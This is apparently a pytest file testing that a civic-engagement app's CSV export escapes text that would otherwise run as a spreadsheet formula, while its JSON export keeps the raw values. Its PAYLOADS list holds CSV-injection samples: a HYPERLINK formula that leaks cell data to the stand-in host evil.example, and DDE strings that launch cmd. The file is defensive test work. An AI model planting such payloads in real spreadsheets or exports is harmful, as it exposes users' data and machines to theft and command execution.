"""Issue 13, finding 4: text typed into ordinary fields must not come out of the export as a
spreadsheet formula. Every CSV in the ZIP goes through ``common.csvsafe``; the JSON keeps the
true values."""

from __future__ import annotations

import csv
import datetime
import io
import json
import zipfile

from powerwith import exports
from powerwith.common import csvsafe
from powerwith.contributions import services as cs
from powerwith.gatherings import services as gs
from tests.conftest import World

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# The services trim spaces, tabs and line breaks around what is typed, so this is what is kept.
STORED = [p.strip() for p in PAYLOADS]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _unzip(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return {name.split("/", 1)[1]: zf.read(name).decode("utf-8") for name in zf.namelist()}


def test_payloads_in_a_contribution_and_an_agenda_item_come_out_as_text(world: World) -> None:
    f, j = world.facilitator, world.journey
    g = gs.gathering_create(
        actor=f,
        journey=j,
        title="Café morning",
        kind="informal_session",
        held_on=datetime.date(2025, 2, 4),
        venue_kind="community",
    )
    for payload in PAYLOADS:
        cs.contribution_create(
            actor=f,
            journey=j,
            text=payload,
            channel="paper",
            anonymous=True,
            raised_on=datetime.date(2025, 2, 4),
            provenance=payload,
        )
        gs.agenda_item_add(actor=f, gathering=g, title=payload)

    files = _unzip(exports.build_zip(j))
    found: list[str] = []
    for name, text in files.items():
        if not name.endswith(".csv"):
            continue
        for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")):
            found += [f"{name}: {c!r}" for c in row if c.startswith(FORMULA_START)]
    assert found == []

    contributions = list(csv.DictReader(io.StringIO(files["contributions.csv"].lstrip("\ufeff"))))
    assert [r["text"] for r in contributions] == ["'" + p for p in STORED]
    assert [r["provenance"] for r in contributions] == ["'" + p for p in STORED]
    items = list(csv.DictReader(io.StringIO(files["agenda_items.csv"].lstrip("\ufeff"))))
    assert [r["title"] for r in items] == ["'" + p for p in STORED]
    # Taking off the one ' gives back exactly what was typed.
    assert [csvsafe.unescape(r["title"]) for r in items] == STORED

    # The JSON keeps the true values; the README says why the CSV differs.
    doc = json.loads(files[f"{j.slug}.json"])
    assert [r["text"] for r in doc["tables"]["contributions"]] == STORED
    assert [r["title"] for r in doc["tables"]["agenda_items"]] == STORED
    assert "has one ' put in front of it" in files["README.txt"]


def test_numbers_stay_numbers_and_text_that_looks_like_one_is_text() -> None:
    rows = [{"seconds": -3, "share": -0.5, "note": "-1", "plain": "Shorter waits", "none": None}]
    assert exports.to_csv(rows) == "seconds,share,note,plain,none\r\n-3,-0.5,'-1,Shorter waits,\r\n"
